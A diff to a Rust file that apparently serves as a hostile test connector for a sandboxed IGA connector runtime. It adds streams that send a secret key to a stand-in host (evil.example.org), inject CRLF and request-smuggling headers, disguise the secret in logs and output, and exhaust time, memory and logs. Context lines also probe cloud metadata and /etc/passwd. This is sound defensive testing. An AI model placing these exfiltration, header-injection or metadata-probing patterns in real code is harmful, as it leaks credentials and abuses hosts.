@@ -5,28 +5,52 @@ mod bindings {
 }
 
 use bindings::exports::iga::connector::connector::{
-    Access, Error, ErrorKind, Guest, Manifest, Page, Position, Progress, Report, Setting, SettingKind,
-    SettingSpec, StreamAccess, StreamSpec,
+    Access, EntitySpec, Error, ErrorKind, Guest, Manifest, Page, Position, Progress, Report, Setting,
+    SettingKind, SettingSpec, StreamAccess, StreamSpec,
 };
-use bindings::iga::connector::http::{self, Request};
-use bindings::iga::connector::types::{Connection, ConnectionKind, Entity, NormalForm, Status};
+use bindings::iga::connector::http::{self, HttpErrorKind, Request};
+use bindings::iga::connector::types::{
+    Connection, ConnectionKind, Entity, EntityType, NormalForm, Problem, Status,
+};
 use bindings::iga::connector::{logging, secrets};
 
 /// Each is the name of a stream.
-const WAYS: [&str; 12] = [
+const WAYS: [&str; 26] = [
     "spins",
+    "waits",
     "eats-memory",
     "recurses",
+    "recurses-without-memory",
     "panics-with-the-secret",
     "exits",
     "returns-the-secret",
     "fails-with-the-secret",
     "logs-the-secret",
+    "prints-the-secret",
+    "hides-the-secret",
+    "sends-the-secret-elsewhere",
+    "floods-the-log",
+    "floods-standard-error",
+    "yields-a-huge-page",
+    "yields-half-a-million-problems",
+    "yields-a-hundred-thousand-entities",
+    "injects-headers",
+    "asks-again-and-again",
     "asks-for-other-secrets",
     "asks-other-hosts",
     "goes-in-circles",
+    "goes-in-wide-circles",
+    "never-ends",
     "yields-what-it-does-not-declare",
 ];
+
+/// A test writes another word over this one, byte by byte, in the compiled component. `panics` and `spins` are done in
+/// `describe`.
+static MODE: [u8; 16] = *b"mode:describes..";
+
+fn mode(word: &str) -> bool {
+    std::hint::black_box(&MODE)[5..].starts_with(word.as_bytes())
+}
 
 struct Hostile;
 
@@ -73,10 +97,57 @@ fn group(name: &str) -> Entity {
     }
 }
 
+fn groups() -> EntitySpec {
+    EntitySpec {
+        entity_type: EntityType::Connection,
+        source_type: "group".to_owned(),
+        title: "Groups".to_owned(),
+        fields: vec![],
+        attributes: vec![],
+    }
+}
+
+fn problem(message: String) -> Problem {
+    Problem { source_id: None, field: None, message }
+}
+
+fn hex(text: &str) -> String {
+    text.bytes().map(|byte| format!("{byte:02x}")).collect()
+}
+
+fn base64(text: &str) -> String {
+    const DIGITS: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
+    let digits = text.as_bytes().chunks(3).flat_map(|chunk| {
+        let bits = chunk.iter().fold(0, |bits, byte| bits << 8 | u32::from(*byte)) << (8 * (3 - chunk.len()));
+        (0..=chunk.len()).map(move |digit| DIGITS[(bits >> (18 - 6 * digit) & 63) as usize] as char)
+    });
+    digits.collect()
+}
+
+/// In its original notation and in others, and over two lines.
+fn disguises(secret: &str) -> Vec<String> {
+    let (first, second) = secret.split_at(secret.len() / 2);
+    vec![secret.to_owned(), hex(secret), base64(&format!("key:{secret}")), format!("{first}\n{second}")]
+}
+
+fn get(url: &str, headers: &[(&str, &str)]) -> Result<u16, HttpErrorKind> {
+    let headers = headers.iter().map(|(name, value)| ((*name).to_owned(), (*value).to_owned())).collect();
+    http::send(&Request { url: url.to_owned(), headers })
+        .map(|answer| answer.status)
+        .map_err(|error| error.kind)
+}
+
+/// Needs the engine's stack only, not the one in the guest's memory.
+#[inline(never)]
+fn recurse_without_memory(depth: u64) -> u64 {
+    if std::hint::black_box(depth) == u64::MAX { 0 } else { recurse_without_memory(depth + 1) ^ depth }
+}
+
 fn failure(message: String) -> Error {
     Error { kind: ErrorKind::Unexpected, code: None, message, remedy: None, detail: None }
 }
 
+#[expect(unconditional_recursion, reason = "what is shown")]
 fn recurse(depth: u64) -> u64 {
     let kept = std::hint::black_box([depth; 64]);
     recurse(depth + 1) + kept[(depth % 64) as usize]
@@ -84,16 +155,23 @@ fn recurse(depth: u64) -> u64 {
 
 impl Guest for Hostile {
     fn describe() -> Manifest {
+        if mode("panics") {
+            panic!("nothing to say");
+        }
+        while mode("spins") {
+            std::hint::black_box(());
+        }
         let streams = WAYS.iter().map(|name| StreamSpec {
             name: (*name).to_owned(),
             title: (*name).to_owned(),
-            entities: vec![],
+            entities: if name.ends_with("what-it-does-not-declare") { vec![] } else { vec![groups()] },
             relations: vec![],
             usages: false,
             permissions: vec![],
             optional: false,
             budget: None,
             incremental: false,
+            cursor_version: 1,
         });
         Manifest {
             name: "hostile".to_owned(),
@@ -119,7 +197,7 @@ impl Guest for Hostile {
         Ok(Report { account: None, streams })
     }
 
-    fn read(_: Vec<Setting>, _: Option<String>, stream: String, _: Position) -> Result<Page, Error> {
+    fn read(_: Vec<Setting>, _: Option<String>, stream: String, position: Position) -> Result<Page, Error> {
         let secret = || secrets::get("key").unwrap_or_default();
         match stream.as_str() {
             "spins" => loop {
@@ -132,6 +210,11 @@ impl Guest for Hostile {
                     std::hint::black_box(&eaten);
                 }
             }
+            "waits" => {
+                std::thread::sleep(std::time::Duration::from_secs(3600));
+                Ok(page(Progress::Done(None)))
+            }
+            "recurses-without-memory" => Err(failure(recurse_without_memory(0).to_string())),
             "recurses" => Err(failure(recurse(0).to_string())),
             "panics-with-the-secret" => panic!("token={}", secret()),
             "exits" => std::process::exit(7),
@@ -142,6 +225,61 @@ impl Guest for Hostile {
                 eprintln!("{}", secret());
                 Ok(page(Progress::Done(None)))
             }
+            "prints-the-secret" => {
+                println!("the key is {}", secret());
+                eprintln!("and once more: {}", hex(&secret()));
+                Ok(page(Progress::Done(None)))
+            }
+            "hides-the-secret" => {
+                for text in disguises(&secret()) {
+                    logging::log(logging::Level::Warn, &format!("hidden: {text}"));
+                }
+                let mut hidden = page(Progress::Done(None));
+                hidden.entities =
+                    disguises(&secret()).iter().map(|text| group(&format!("group {text}"))).collect();
+                hidden.problems = disguises(&secret()).into_iter().map(problem).collect();
+                Ok(hidden)
+            }
+            "sends-the-secret-elsewhere" => {
+                let urls = [
+                    format!("https://evil.example.org/?key={}", secret()),
+                    format!("https://{}.evil.example.org/", secret().to_lowercase()),
+                    format!("https://{}@good.example.com/", secret()),
+                ];
+                Err(failure(format!("{:?}", urls.map(|url| get(&url, &[("authorization", &secret())])))))
+            }
+            "floods-the-log" => loop {
+                logging::log(logging::Level::Info, "all is well");
+            },
+            "floods-standard-error" => loop {
+                eprintln!("all is well");
+            },
+            "yields-a-huge-page" => {
+                Ok(Page { entities: vec![group(&"x".repeat(20 << 20))], ..page(Progress::Done(None)) })
+            }
+            "yields-half-a-million-problems" => {
+                Ok(Page { problems: vec![problem(String::new()); 500_000], ..page(Progress::Done(None)) })
+            }
+            "yields-a-hundred-thousand-entities" => {
+                Ok(Page { entities: vec![group("x"); 100_000], ..page(Progress::Done(None)) })
+            }
+            "injects-headers" => {
+                let headers = [
+                    ("Host", "evil.example.org"),
+                    ("host ", "evil.example.org"),
+                    ("x-key", "a\r\nHost: evil.example.org"),
+                    ("x-key\r\nhost", "evil.example.org"),
+                    ("Content-Length", "5"),
+                    ("Transfer-Encoding", "chunked"),
+                    ("X-HTTP-Method-Override", "DELETE"),
+                    ("X-Forwarded-Host", "evil.example.org"),
+                ];
+                let kinds = headers.map(|header| get("https://good.example.com/", &[header]));
+                Err(failure(format!("{kinds:?}")))
+            }
+            "asks-again-and-again" => loop {
+                let _ = get("https://evil.example.org/", &[]);
+            },
             // What it got is told as an error, so that a test can see it.
             "asks-for-other-secrets" => {
                 let asked = ["host", "PATH", "HOME", "other"].map(|name| secrets::get(name).is_ok());
@@ -158,13 +296,24 @@ impl Guest for Hostile {
                     "https://169.254.169.254/latest/meta-data/",
                     "file:///etc/passwd",
                 ];
-                let kinds = urls.map(|url| {
-                    let request = Request { url: url.to_owned(), headers: vec![] };
-                    http::send(&request).map(|answer| answer.status).map_err(|error| error.kind)
-                });
+                let kinds = urls.map(|url| get(url, &[]));
                 Err(failure(format!("{kinds:?}")))
             }
             "goes-in-circles" => Ok(page(Progress::More("v1:again".to_owned()))),
+            "goes-in-wide-circles" => {
+                let next = match position {
+                    Position::At(cursor) if cursor == "v1:there" => "v1:back",
+                    _ => "v1:there",
+                };
+                Ok(page(Progress::More(next.to_owned())))
+            }
+            "never-ends" => {
+                let last = match &position {
+                    Position::At(cursor) => cursor.trim_start_matches("v1:").parse().unwrap_or(0),
+                    _ => 0_u64,
+                };
+                Ok(page(Progress::More(format!("v1:{}", last + 1))))
+            }
             _ => Ok(Page { entities: vec![group("1")], ..page(Progress::Done(None)) }),
         }
     }
